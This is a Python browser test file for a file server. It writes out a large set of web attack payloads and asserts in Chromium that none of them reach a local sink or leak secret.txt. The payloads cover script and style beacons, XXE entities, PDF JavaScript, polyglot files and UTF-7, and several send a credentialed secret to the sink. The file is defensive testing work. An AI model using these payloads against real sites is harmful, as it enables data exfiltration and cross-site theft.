"""Files that try to do something, opened in a real Chromium from a real server: none of them asks for anything."""

import base64
import contextlib
import os
import threading
import wave
import zipfile
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import quote

import pytest
from tests import waiting
from tests.zddc.tools.archives import served

pytestmark = [pytest.mark.browser, pytest.mark.slow]

SOAK = bool(os.environ.get("WEAKSPOT_SOAK"))
KIM = "kim@acme.example"
# How a script, a style or a plain element would ask the sink, or read the secret of the same server and tell it.
SCRIPT = """
fetch('SINK/script'); new Image().src = 'SINK/image-of-script'; navigator.sendBeacon && navigator.sendBeacon('SINK/b');
fetch('/secret.txt', {credentials: 'include'}).then(a => a.text()).then(t => fetch('SINK/?' + encodeURIComponent(t)));
try { location = 'SINK/location'; } catch (e) {}
"""
HTML = f"""<!doctype html><meta http-equiv=refresh content="1;url=SINK/refresh"><link rel=stylesheet href=SINK/style>
<link rel=prefetch href=SINK/prefetch><link rel=preconnect href=SINK><img src=SINK/image>
<img src=/secret.txt><script src=SINK/script.js></script><script>{SCRIPT}</script>
<iframe src=SINK/frame></iframe><iframe src=/secret.txt></iframe><iframe srcdoc="<script>{SCRIPT}</script>"></iframe>
<object data=SINK/object></object><embed src=SINK/embed><video src=SINK/video autoplay></video>
<audio src=SINK/audio autoplay></audio><style>@import 'SINK/import';body{{background:url(SINK/background)}}
@font-face{{font-family:x;src:url(SINK/font)}}p{{font-family:x}}</style><p>text
<form action=SINK/form><input name=a></form><script>document.forms[0] && document.forms[0].submit()</script>
<svg onload="fetch('SINK/onload')"></svg><body onload="fetch('SINK/body')"><a href=SINK/ping ping=SINK/ping>x</a>
<details open ontoggle="fetch('SINK/toggle')">x</details><input autofocus onfocus="fetch('SINK/focus')">
<script type=module>import('SINK/module.js')</script><math><mtext><img src=x onerror="fetch('SINK/e')"></mtext></math>
"""
SVG = f"""<?xml version="1.0"?><?xml-stylesheet href="SINK/style.css"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" onload="fetch('SINK/onload')">
<script><![CDATA[{SCRIPT}]]></script><script xlink:href="SINK/script.js"/><image xlink:href="SINK/image" width="9"
height="9"/><use xlink:href="SINK/use#a"/><foreignObject width="99" height="99"><iframe
xmlns="http://www.w3.org/1999/xhtml" src="SINK/frame"/></foreignObject><style>@import url(SINK/import);</style>
<feImage xlink:href="SINK/fe"/><animate attributeName="href" onbegin="fetch('SINK/animate')"/></svg>"""
XHTML = f"""<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><head><script><![CDATA[{SCRIPT}]]></script>
<link rel="stylesheet" href="SINK/style"/></head>
<body><img src="SINK/image"/><iframe src="/secret.txt"/></body></html>"""
XML = """<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="style.xsl"?>
<!DOCTYPE a [<!ENTITY b SYSTEM "/secret.txt"><!ENTITY % c SYSTEM "SINK/dtd"> %c;]><a>&b;</a>"""
XSL = f"""<?xml version="1.0"?><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform">
<xsl:import href="SINK/import.xsl"/><xsl:template match="/"><html><body><img src="SINK/xslt"/>
<script><![CDATA[{SCRIPT}]]></script><xsl:copy-of select="document('/secret.txt')"/></body></html></xsl:template>
</xsl:stylesheet>"""
MHTML = f"""From: <Saved>
MIME-Version: 1.0
Content-Type: multipart/related; type="text/html"; boundary="b"

--b
Content-Type: text/html
Content-Location: http://localhost/

{HTML}
--b--
"""
PDF = """%PDF-1.7
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(
app.launchURL\\('SINK/pdf'\\); this.submitForm\\('SINK/submit'\\);)>>/AA<</O<</S/URI/URI(SINK/aa)>>>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/AA<</O<</S/URI/URI(SINK/page)>>>>/Annots[<</Type/Annot
/Subtype/Link/Rect[0 0 99 99]/A<</S/URI/URI(SINK/uri)>>>>]>>endobj
trailer<</Root 1 0 R/Size 4>>
%%EOF"""
PIXEL = base64.b64decode("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7")
PAYLOADS = {
    "page.html": HTML,
    "page.htm": f"<base href=SINK/base/>{HTML}",
    "page.shtml": HTML,
    "page.xhtml": XHTML,
    "page.xht": XHTML,
    "drawing.svg": SVG,
    "drawing.svgz": SVG,
    "data.xml": XML,
    "style.xsl": XSL,
    "style.xslt": XSL,
    "saved.mhtml": MHTML,
    "saved.mht": MHTML,
    "paper.pdf": PDF,
    "polyglot.pdf": f"%PDF-1.4\n{HTML}",
    "polyglot.gif": PIXEL + HTML.encode(),
    "polyglot.jpg": b"\xff\xd8\xff\xe0" + HTML.encode(),
    "polyglot.txt": HTML,
    "polyglot.csv": HTML,
    "polyglot.json": HTML,
    "without-extension": HTML,
    "plan.pdf.html": HTML,
    "plan.html.pdf": HTML,
    "page.html.unknown": HTML,
    "script.js": SCRIPT,
    "style.css": "@import 'SINK/css';",
    "page.hta": HTML,
    "feed.rss": f"<rss version='2.0'><channel><title>{HTML}</title></channel></rss>",
    "letter.eml": f"Content-Type: text/html\n\n{HTML}",
    "notes.md": HTML,
    "utf-16.html": HTML.encode("utf-16"),
    "utf-7.html": "+ADw-script+AD4-fetch('SINK/utf7')+ADw-/script+AD4-",
}


class Sink(ThreadingHTTPServer):
    """A server elsewhere, which keeps what it is asked."""

    daemon_threads = True

    def __init__(self) -> None:
        self.asked: list[str] = []
        super().__init__(("127.0.0.1", 0), _Keeping)


class _Keeping(BaseHTTPRequestHandler):
    def do_GET(self):
        self.server.asked.append(self.path)
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", "*")
        self.send_header("Content-Length", "0")
        self.end_headers()

    do_POST = do_HEAD = do_OPTIONS = do_GET  # noqa: N815 - the names of the library

    def log_message(self, *_):
        pass


@contextlib.contextmanager
def listening() -> Iterator[Sink]:
    with Sink() as sink:
        threading.Thread(target=sink.serve_forever, daemon=True).start()
        yield sink
        sink.shutdown()


@pytest.fixture(scope="module")
def sink() -> Iterator[Sink]:
    with listening() as sink:
        yield sink


@pytest.fixture(scope="module")
def archive(tmp_path_factory, sink):
    """Serve the payloads, also out of a zip, beside a secret that the person may read; yield the address."""
    root = tmp_path_factory.mktemp("served")
    (root / ".zddc").write_text('acl: {allow: ["*@acme.example"]}\n')
    (root / "secret.txt").write_text("the secret")
    with wave.open(str(root / "sound.wav"), "wb") as sound:
        sound.setparams((1, 2, 8000, 8000, "NONE", ""))
        sound.writeframes(bytes(16_000))
    address = f"http://127.0.0.1:{sink.server_port}"
    with zipfile.ZipFile(root / "all.zip", "w") as zipped:
        for name, text in PAYLOADS.items():
            data = text if isinstance(text, bytes) else text.encode()
            data = data.replace(b"SINK", address.encode())
            data = data.replace("SINK".encode("utf-16-le"), address.encode("utf-16-le"))
            (root / name).write_bytes(data)
            zipped.writestr(name, data)
    audit = root / ".audit.jsonl"
    with served(root, "--as", KIM, "--audit-log", audit) as address:
        yield address.rstrip("/"), audit


def test_a_sink_hears_a_page_that_is_free_to_ask(chromium, tmp_path):
    """The payload works: without the server's headers it asks, so that silence means something.

    The sink is one of its own: some of what the page asks for comes when the page is closed.
    """
    file = tmp_path / "page.html"
    with listening() as sink:
        file.write_text(HTML.replace("SINK", f"http://127.0.0.1:{sink.server_port}"))
        page = chromium.new_page()
        page.goto(file.as_uri(), wait_until="commit")
        waiting.until(lambda: {"/image", "/script", "/style"} <= set(sink.asked))
        page.close()


def test_sound_is_played(chromium, archive):
    """It is asked for again by a page of the browser's own, which a sandbox would keep from getting it."""
    address, _ = archive
    page = chromium.new_page()
    page.goto(f"{address}/sound.wav")
    page.wait_for_function("() => document.querySelector('video, audio').readyState > 0")
    page.close()


def test_nothing_that_was_put_there_asks_for_anything(whole_chromium, sink, archive):
    """E1: each is opened as a page, at full count out of a zip too."""
    address, audit = archive
    shown = 0
    page = whole_chromium.new_page(accept_downloads=True)
    page.on("dialog", lambda dialog: (sink.asked.append("a dialog"), dialog.dismiss()))
    for folder in ("", "/all.zip") if SOAK else ("",):
        for name in PAYLOADS:
            try:
                page.goto(f"{address}{folder}/{quote(name)}", wait_until="load")
            except Exception as error:
                if "Download is starting" not in str(error) and "ERR_ABORTED" not in str(error):
                    raise
                continue
            shown += 1
            page.wait_for_timeout(1200 if name == "page.html" else 20)  # its refresh would come after a second
            assert page.url == f"{address}{folder}/{quote(name)}"
    page.close()
    assert sink.asked == []
    asked = audit.read_text()
    assert asked.count('"path": "/secret.txt"') == 0
    assert shown >= 20  # the others are downloaded
    assert len(PAYLOADS) >= 25
    print(f"{len(PAYLOADS)} payloads, {shown} times one was shown and not downloaded")
